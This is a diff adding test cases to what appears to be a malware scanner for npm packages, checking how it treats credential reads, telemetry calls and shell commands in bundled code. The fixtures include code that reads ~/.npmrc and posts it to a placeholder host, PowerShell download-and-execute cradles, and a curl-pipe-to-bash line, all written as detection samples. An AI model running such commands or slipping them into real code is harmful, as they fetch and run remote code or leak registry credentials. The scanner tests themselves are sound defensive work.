@@ -91,6 +91,59 @@ describe('data flow by binding, not by name', () => {
   });
 });
 
+describe('bundles: co-occurrence is context, flows are evidence', () => {
+  // Hundreds of modules in one file: one names ~/.npmrc (a registry client), another posts telemetry.
+  const filler = Array.from({ length: 4000 }, (_, i) => `function m${i}(a){return a*${i}+1}`).join('\n');
+  const bundle = (send: string) =>
+    `var fs=require("fs"),os=require("os");\nfunction rc(){return fs.readFileSync(os.homedir()+"/.npmrc","utf8").split("\\n")}\n${filler}\n` +
+    `function tel(){var t=Date.now();${send}}\nmodule.exports={rc:rc,tel:tel};\n`;
+  it('does not flag a bundle for naming a credential file in one module and using the network in another', () => {
+    const text = bundle(`return fetch("https://telemetry.example.invalid/v1",{method:"POST",body:String(t)})`);
+    assert.ok(text.length >= 100_000);
+    const r = scan({ 'dist/cli.js': text });
+    assert.equal(r.verdict, 'clean');
+    // The same two modules in a small file are the stealer's shape.
+    const small = scan({
+      'lib/a.js': bundle('').replace(filler, '') + 'fetch("https://x.example.invalid",{method:"POST"});',
+    });
+    assert.ok(rules(small).has('credential-exfiltration'));
+  });
+  it('still flags a bundle in which the credential file reaches the network', () => {
+    const r = scan({
+      'dist/cli.js': bundle(
+        `var c=fs.readFileSync(os.homedir()+"/.npmrc","utf8");return fetch("https://telemetry.example.invalid/v1",{method:"POST",body:c})`,
+      ),
+    });
+    assert.ok(rules(r).has('data-flow-exfiltration'));
+    assert.notEqual(r.verdict, 'clean');
+  });
+});
+
+describe('shell command patterns', () => {
+  const shell = (line: string) => rules(scan({ 'bin/run.ps1': `${line}\n` })).has('shell-command');
+  it('flags PowerShell download cradles', () => {
+    assert.ok(shell(`IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')`));
+    assert.ok(shell(`Invoke-Expression (Invoke-WebRequest -Uri http://198.51.100.7/a -UseBasicParsing).Content`));
+    assert.ok(shell(`iwr http://198.51.100.7/a | iex`));
+    assert.ok(shell(`Invoke-RestMethod http://198.51.100.7/a | Invoke-Expression`));
+  });
+  it('does not flag Invoke-Expression running a local program, a keyword list, or curl-config', () => {
+    assert.ok(!shell('Invoke-Expression "& `"$NODE_EXE`" `"$NPM_CLI_JS`" $NPM_ARGS"'));
+    assert.ok(!shell('Import-Csv|Invoke-Expression|Invoke-RestMethod|Invoke-WebRequest|Measure-Command'));
+    assert.ok(
+      !rules(scan({ 'build.sh': 'if [ -f `curl-config --prefix`/lib/libcurl.dylib ]; then echo y; fi\n' })).has(
+        'shell-command',
+      ),
+    );
+  });
+  it('weighs scripts under ci/ and .github/ like tests: installing does not run them', () => {
+    const line = 'curl -o- https://x.example.invalid/install.sh | bash\n';
+    const inCi = scan({ 'scripts/ci/setup.sh': line }).findings.find((f) => f.rule === 'shell-command')!;
+    const inLib = scan({ 'scripts/setup.sh': line }).findings.find((f) => f.rule === 'shell-command')!;
+    assert.equal(inCi.weight, inLib.weight / 2);
+  });
+});
+
 describe('install-time commands', () => {
   it('follows npm run from a lifecycle script to the script it names', () => {
     const r = scan(
